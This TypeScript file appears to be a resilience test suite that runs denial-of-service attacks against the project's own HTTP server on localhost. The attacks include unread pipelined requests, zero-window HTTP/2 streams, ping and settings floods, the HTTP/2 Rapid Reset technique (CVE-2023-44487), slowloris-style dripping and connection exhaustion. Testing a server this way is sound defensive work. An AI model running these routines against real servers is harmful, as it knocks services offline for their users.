/** Clients that do not read, do not write, or do both slowly. */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { endHeaders, endStream, frame, frameType, headerBlock, preface, requestLine } from '../../fakes/rawhttp2.ts';
import type { Attack, AttackContext } from '../attack.ts';
import { openStranger, writeAll } from '../stranger.ts';

const target = 'server/openconnections.ts';
/** How long the attacker stays; longer than the program takes over what was sent. */
const staysMs = 2_000;
const longPath = `/${'<'.repeat(1_000)}`;

async function pipelined(context: AttackContext, connections: number): Promise<void> {
  const requests = Buffer.from(`GET ${longPath} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(1_600));
  const sockets = await Promise.all(Array.from({ length: connections }, () => openStranger(context)));
  await Promise.all(sockets.map((socket) => writeAll(socket.pause(), requests)));
  await sleep(staysMs);
  for (const socket of sockets) socket.destroy();
}

/** Settings with an initial window of 0. */
const noWindow = Buffer.from([0, 4, 0, 0, 0, 0]);

/** @param connections each with 240 streams, more than the program allows at once. */
async function windowless(context: AttackContext, connections: number, certificate = {}): Promise<void> {
  const block = headerBlock(requestLine(longPath));
  const streams = Array.from({ length: 240 }, (_, index) =>
    frame(frameType.headers, endHeaders | endStream, 2 * index + 1, block),
  );
  const bytes = Buffer.concat([Buffer.from(preface), frame(frameType.settings, 0, 0, noWindow), ...streams]);
  const options = { ALPNProtocols: ['h2'], ...certificate };
  const sockets = await Promise.all(Array.from({ length: connections }, () => openStranger(context, options)));
  for (const socket of sockets) socket.resume().write(bytes);
  await sleep(staysMs);
  for (const socket of sockets) socket.destroy();
}

/** Frames that ask for nothing but an answer. */
async function flood(context: AttackContext, type: number, payload: Buffer): Promise<void> {
  const socket = await openStranger(context, { ALPNProtocols: ['h2'] });
  socket.pause().write(Buffer.concat([Buffer.from(preface), frame(frameType.settings, 0, 0)]));
  const piece = Buffer.concat(Array.from({ length: 2_000 }, () => frame(type, 0, 0, payload)));
  for (let time = 0; time < 20; time += 1) await writeAll(socket, piece);
  socket.destroy();
}

/** Opens streams and resets them at once (CVE-2023-44487). */
async function rapidReset(context: AttackContext): Promise<void> {
  const socket = await openStranger(context, { ALPNProtocols: ['h2'] });
  socket.resume().write(Buffer.concat([Buffer.from(preface), frame(frameType.settings, 0, 0)]));
  const block = headerBlock(requestLine(longPath));
  const cancel = Buffer.from([0, 0, 0, 8]);
  for (let batch = 0; batch < 20; batch += 1) {
    const frames: Buffer[] = [];
    for (let index = 0; index < 200; index += 1) {
      const stream = 2 * (200 * batch + index) + 1;
      frames.push(frame(frameType.headers, endHeaders | endStream, stream, block));
      frames.push(frame(frameType.reset, 0, stream, cancel));
    }
    await writeAll(socket, Buffer.concat(frames));
  }
  // Nothing shows when the server has worked on all of it; half a second is several times what that takes, and the hold is measured meanwhile.
  await sleep(500);
  socket.destroy();
}

async function dripping(context: AttackContext): Promise<void> {
  const sockets = await Promise.all(Array.from({ length: 100 }, () => openStranger(context)));
  const head = Buffer.from('GET / HTTP/1.1\r\nX: a');
  for (const byte of head.subarray(0, 4)) {
    for (const socket of sockets) socket.write(Buffer.from([byte]));
    await sleep(staysMs / 4);
  }
  for (const socket of sockets) socket.destroy();
}

function connected(socket: Socket): Promise<void> {
  return new Promise((resolve) => void socket.once('connect', resolve).once('close', () => resolve()));
}

/** More connections than the program takes; a caller who comes then must be served. */
async function crowd({ port, askAsAdmin }: AttackContext): Promise<void> {
  const sockets: Socket[] = [];
  for (let batch = 0; batch < 12; batch += 1) {
    const opened = Array.from({ length: 100 }, () => connect(port, '127.0.0.1').on('error', () => undefined));
    sockets.push(...opened);
    await Promise.all(opened.map(connected));
  }
  const { status } = await askAsAdmin('/readyz');
  for (const socket of sockets) socket.destroy();
  if (status !== 200) throw new Error(`a caller who comes after 1,200 connections gets status ${status}`);
}

export const attacks: readonly Attack[] = [
  { name: 'a stranger pipelines 1,600 requests and reads nothing', target, run: (context) => pipelined(context, 1) },
  {
    name: 'a stranger pipelines 1,600 requests on each of 20 connections and reads nothing',
    target,
    run: (context) => pipelined(context, 20),
  },
  {
    name: 'a stranger opens 240 streams without a window',
    target,
    run: (context) => windowless(context, 1),
  },
  {
    name: 'a stranger opens 240 streams without a window on each of 10 connections',
    target,
    // Each connection may hold 4 MiB before it is closed.
    limits: { addedBytes: 128 * 1024 ** 2 },
    run: (context) => windowless(context, 10),
  },
  {
    name: 'a client without rights opens 240 streams without a window on each of 3 connections',
    target,
    limits: { addedBytes: 128 * 1024 ** 2 },
    // More of them are beyond the limit in flight, where everybody who is known may hear 429, as of Go's servers.
    run: (context) => windowless(context, 3, context.client),
  },
  {
    name: 'a stranger sends 40,000 pings and reads no answer',
    target,
    run: (context) => flood(context, frameType.ping, Buffer.alloc(8)),
  },
  {
    name: 'a stranger sends 40,000 settings and reads no answer',
    target,
    run: (context) => flood(context, frameType.settings, noWindow),
  },
  { name: 'a stranger opens 4,000 streams and resets them at once', target, run: rapidReset },
  { name: 'a stranger sends a byte in half a second on 100 connections', target, run: dripping },
  { name: 'a stranger opens 1,200 connections and shakes no hands', target, run: crowd },
];
